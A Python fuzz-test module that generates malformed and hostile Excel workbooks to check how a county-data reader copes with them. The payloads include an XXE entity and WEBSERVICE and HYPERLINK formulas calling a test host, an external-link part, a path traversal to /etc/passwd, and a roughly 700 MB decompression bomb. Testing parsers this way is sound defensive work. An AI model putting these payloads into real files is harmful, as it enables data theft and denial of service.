"""Damage to workbooks: cells, sheets, parts of the archive, and the many kinds of file that are called workbooks."""

from __future__ import annotations

import datetime
import re
import shutil
import zipfile
from collections.abc import Callable
from functools import cache
from pathlib import Path
from tempfile import TemporaryDirectory

import openpyxl
from openpyxl.styles import PatternFill
from openpyxl.worksheet.worksheet import Worksheet

from geodata.folder.reading import read_county
from optimizer.verbs.template import write_template
from tests.damage import cells
from tests.geodata.test_fuzz import CELLS, TABLES, Case, workbook
from tests.hostile.county import a_county, at, named

VALUES = (
    None, True, 1.5, -3, "=1/0", "=A1", "#REF!", "十", 1e300, "abc", datetime.datetime(2025, 9, 1), datetime.time(7, 30),
    datetime.timedelta(days=4000), "_x0001_", "_x0007_", "\ufffe", "\u200b1", "x" * 32_000, "=HYPERLINK(\"http://{at}/\")",
    "=WEBSERVICE(\"http://{at}/\")", 45_000, "1899-12-31", "'1", "\n\n", "&lt;", "]]>",
)  # fmt: skip
CORNERS = ("A1048576", "XFD1", "XFD1048576", "A200001", "ALM1", "Z5000")
BOMB = 700_000_000
Change = Callable[[bytes], bytes]


@cache
def sound_book() -> bytes:
    """The small county as one workbook, as `junheng template --from` fills it."""
    with TemporaryDirectory() as place:
        county = read_county(a_county(Path(place) / "county"))
        return write_template(Path(place) / "county.xlsx", "zh", county).read_bytes()


def alone(case: Case) -> Path:
    """The whole county as one workbook, instead of its folder."""
    book = case.folder / "county.xlsx"
    book.write_bytes(sound_book())
    return book


def in_the_folder(case: Case) -> Path:
    """Some tables in a workbook that county.toml names."""
    book = openpyxl.Workbook()
    book.remove(book.worksheets[0])
    for table in case.dice.sample(TABLES, 3):
        sheet = book.create_sheet(table)
        frame = cells(case.folder, table)
        for row in [list(frame.columns), *frame.to_numpy().tolist()]:
            sheet.append(row)
        (case.folder / f"{table}.csv").unlink()
    path = case.folder / "book.xlsx"
    book.save(path)
    named(case, "workbook", "book.xlsx")
    return path


def _a_book(case: Case) -> Path:
    return alone(case) if case.dice.random() < 0.4 else in_the_folder(case)


def _place(case: Case, path: Path) -> Path:
    """What is to be checked: the workbook where it is the county."""
    return path if path.name == "county.xlsx" else case.folder


def _a_cell(case: Case, sheet: Worksheet) -> tuple[int, int]:
    return case.dice.randint(1, min(sheet.max_row, 12)), case.dice.randint(1, min(sheet.max_column, 12))


def a_cell(case: Case) -> Path:
    """Some cells hold what no such cell holds: dates, formulas, errors, control characters, very long texts."""
    path = _a_book(case)
    book = openpyxl.load_workbook(path)
    for _ in range(case.dice.randint(1, 4)):
        sheet = case.dice.choice(book.worksheets)
        row, column = _a_cell(case, sheet)
        value = case.dice.choice((*VALUES, *CELLS))
        value = value.replace("{at}", at(case)) if isinstance(value, str) else value
        try:
            sheet.cell(row, column).value = value
        except Exception:  # openpyxl itself writes no control characters
            sheet.cell(row, column).value = "_x0001_"
    book.save(path)
    return _place(case, path)


def sheets(case: Case) -> Path:
    """Merged cells, hidden rows and sheets, sheets twice, sheets of charts, no sheet of a table."""
    path = _a_book(case)
    book = openpyxl.load_workbook(path)
    sheet = case.dice.choice(book.worksheets)
    row, column = _a_cell(case, sheet)
    how = case.dice.randrange(9)
    if how == 0:
        sheet.merge_cells(
            start_row=row,
            start_column=column,
            end_row=row + case.dice.randint(0, 4),
            end_column=column + case.dice.randint(0, 3),
        )
    elif how == 1:
        sheet.merge_cells(case.dice.choice(("A1:XFD1048576", "A2:A1048576", "A1:XFD1", "B3:C900000")))
    elif how == 2:
        sheet.sheet_state = case.dice.choice(("hidden", "veryHidden"))
    elif how == 3:
        sheet.row_dimensions[row].hidden = True
        sheet.column_dimensions["B"].hidden = True
    elif how == 4:
        sheet.title = case.dice.choice(("zoo", sheet.title.upper()[:30], "学校 ", "schools", "\u200bschools"))
    elif how == 5 and len(book.worksheets) > 1:
        book.remove(sheet)
    elif how == 6:
        book.create_chartsheet("schools" if "schools" not in book.sheetnames else "zoo", 0)
    elif how == 7:
        sheet.insert_rows(1, case.dice.randint(1, 3))
    else:
        sheet.delete_rows(1)
    book.save(path)
    return _place(case, path)


def far_corner(case: Case) -> Path:
    """A cell in the far corner of a sheet, blank but for its colour or with a text in it."""
    path = _a_book(case)
    book = openpyxl.load_workbook(path)
    cell = case.dice.choice(book.worksheets)[case.dice.choice(CORNERS)]
    if case.dice.random() < 0.5:
        cell.fill = PatternFill("solid", fgColor="FFFF00")
    else:
        cell.value = case.dice.choice((" ", "x", 0, "=A1"))
    book.save(path)
    return _place(case, path)


def very_many(case: Case) -> Path:
    """Very many rows that no table has: unknown ids by the hundred thousand, or cells beyond the ceiling."""
    path = in_the_folder(case)
    rows, wide = case.dice.choice(((2_000, 3), (20_000, 1), (150_000, 8), (200_500, 1)))
    row = b"".join(b'<c t="inlineStr"><is><t>zoo</t></is></c>' for _ in range(wide))
    many = b"".join(b"<row>" + row + b"</row>" for _ in range(rows))
    _rewritten(path, "sheet1.xml", lambda xml: xml.replace(b"</sheetData>", many + b"</sheetData>"))
    return _place(case, path)


def _rewritten(path: Path, ending: str, change: Change, more: tuple[tuple[str, bytes], ...] = ()) -> None:
    """The archive with one part changed and others added."""
    old = path.with_suffix(".old")
    path.rename(old)
    with zipfile.ZipFile(old) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for part in source.namelist():
            content = source.read(part)
            target.writestr(part, change(content) if part.endswith(ending) else content)
        for name, content in more:
            target.writestr(name, content)
    old.unlink()


def parts(case: Case) -> Path:
    """Parts of the archive: cut, gone, entities, text that is no text, control characters, wrong indices."""
    path = _a_book(case)
    with zipfile.ZipFile(path) as book:
        names = book.namelist()
    entity = f'<!DOCTYPE a [<!ENTITY b SYSTEM "http://{at(case)}/b">]>'.encode()
    changes: tuple[Change, ...] = (
        lambda xml: xml[: len(xml) // 2], lambda xml: b"", lambda xml: entity + re.sub(rb"<\?xml[^>]*\?>", b"", xml),
        lambda xml: xml.replace(b"<v>", b"<v>99999999", 1), lambda xml: xml.replace(b"</t>", b"\x01</t>", 1),
        lambda xml: xml.replace(b"</t>", b"&#xFFFE;</t>", 1), lambda xml: xml.replace(b' r="A2"', b' r="A0"', 1),
        lambda xml: xml.replace(b' r="2"', b' r="99999999999"', 1), lambda xml: xml.decode("utf-8").encode("utf-16"),
        lambda xml: xml.replace(b'ref="A1', b'ref="XFD1048576:A1', 1), lambda xml: xml.replace(b"<v>", b"<v>1e999", 1),
        lambda xml: xml.replace(b' t="s"', b' t="zoo"', 1), lambda xml: xml.replace(b' s="', b' s="99999', 1),
        lambda xml: xml.replace(b"sheetId=", b"zoo=", 1), lambda xml: xml.replace(b"worksheets/sheet", b"../../../etc/passwd", 1),
        lambda xml: xml.replace(b"</c>", b"<f>" + b"A1+" * 20_000 + b"1</f></c>", 1),
    )  # fmt: skip
    more = (
        ("xl/externalLinks/externalLink1.xml", f"<externalLink href='http://{at(case)}/a.xlsx'/>".encode()),
    )
    change = case.dice.choice(changes)
    _rewritten(path, case.dice.choice(names), change, more if case.dice.random() < 0.2 else ())
    return _place(case, path)


def bomb(case: Case) -> Path:
    """A part that unpacks to more than any workbook has."""
    path = in_the_folder(case)
    old = path.with_suffix(".old")
    path.rename(old)
    with zipfile.ZipFile(old) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for part in source.namelist():
            target.writestr(part, source.read(part))
        name = case.dice.choice(("xl/worksheets/sheet9.xml", "xl/media/image1.png", "xl/sharedStrings2.xml"))
        with target.open(name, "w") as out:
            for _ in range(BOMB // 10_000_000):
                out.write(b" " * 10_000_000)
    old.unlink()
    return case.folder


def another_file(case: Case) -> Path:
    """An old workbook, one of another program, a text, an archive of something else: under a workbook's name."""
    ending = case.dice.choice(
        ("xls", "xlsb", "ods", "et", "numbers", "xlsx", "xlsm", "csv", "zip", "XLSX", "")
    )
    name = f"other.{ending}".rstrip(".")
    file = case.folder / name
    how = case.dice.randrange(5)
    if how == 0:
        file.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + case.dice.randbytes(600))
    elif how == 1:
        with zipfile.ZipFile(file, "w") as archive:
            archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
            archive.writestr("content.xml", "<office/>")
    elif how == 2:
        shutil.copy(case.folder / "schools.csv", file)
    elif how == 3:
        file.write_bytes(sound_book())
    else:
        file.write_bytes(b"<html><table><tr><td>1</td></tr></table></html>")
    if case.dice.random() < 0.4:
        return file
    named(case, "workbook", name)
    return case.folder


DAMAGE = (workbook, a_cell, a_cell, sheets, sheets, far_corner, parts, parts, another_file, very_many, bomb)
